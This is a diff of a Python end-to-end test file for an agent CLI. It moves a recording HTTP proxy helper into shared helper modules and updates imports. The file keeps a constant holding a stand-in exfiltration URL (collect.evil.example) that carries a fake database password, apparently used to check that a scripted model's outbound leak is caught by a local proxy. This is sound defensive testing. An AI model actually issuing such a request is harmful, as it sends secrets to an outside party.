@@ -7,51 +7,20 @@ it, so any request the CLI makes for a fetch arrives there, and nothing leaves t
 
 from __future__ import annotations
 
-import asyncio
 import json
 import sqlite3
-from collections.abc import AsyncIterator
-from contextlib import asynccontextmanager
 from pathlib import Path
 from typing import Any
 
 import pytest
 
-from tests.e2e.test_commands import run_cli
+from tests.helpers.processes import run_cli
+from tests.helpers.proxy import recording_proxy, use_proxy
 from tui.agent.events import ToolFinished
 from tui.demo.model_server import ToolCall, Turn
 from tui.models import ToolStatus
 
 LEAK = "http://collect.evil.example/?d=db_password%3Dhunter2"
-
-
-@asynccontextmanager
-async def recording_proxy() -> AsyncIterator[tuple[str, list[str]]]:
-    """An HTTP proxy that records the first line of each request and answers 502."""
-    seen: list[str] = []
-
-    async def serve(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
-        line = await reader.readline()
-        seen.append(line.decode(errors="replace").strip())
-        writer.write(b"HTTP/1.1 502 Bad Gateway\r\nContent-Length: 0\r\nConnection: close\r\n\r\n")
-        await writer.drain()
-        writer.close()
-
-    server = await asyncio.start_server(serve, "127.0.0.1", 0)
-    port = server.sockets[0].getsockname()[1]
-    try:
-        yield f"http://127.0.0.1:{port}", seen
-    finally:
-        server.close()
-        await server.wait_closed()
-
-
-def use_proxy(monkeypatch: pytest.MonkeyPatch, proxy: str) -> None:
-    """The CLI's fetches go to the proxy; its calls to the scripted model stay direct."""
-    for name in ("HTTP_PROXY", "HTTPS_PROXY", "http_proxy", "https_proxy"):
-        monkeypatch.setenv(name, proxy)
-    for name in ("NO_PROXY", "no_proxy"):
-        monkeypatch.setenv(name, "127.0.0.1,localhost")
 
 
 def fetch_turns() -> list[Turn]:
@@ -144,7 +113,7 @@ def bulk_turns() -> list[Turn]:
 async def test_headless_ask_denies_backlog_writes_unless_allowed(
     isolated: Path, project: Path, tmp_path: Path
 ) -> None:
-    from tests.backlog_db import make_backlog
+    from tests.helpers.backlog_db import make_backlog
     from tui.demo.model_server import ModelServer
 
     backlog = make_backlog(project / "features.db", [{"name": "Login form"}])
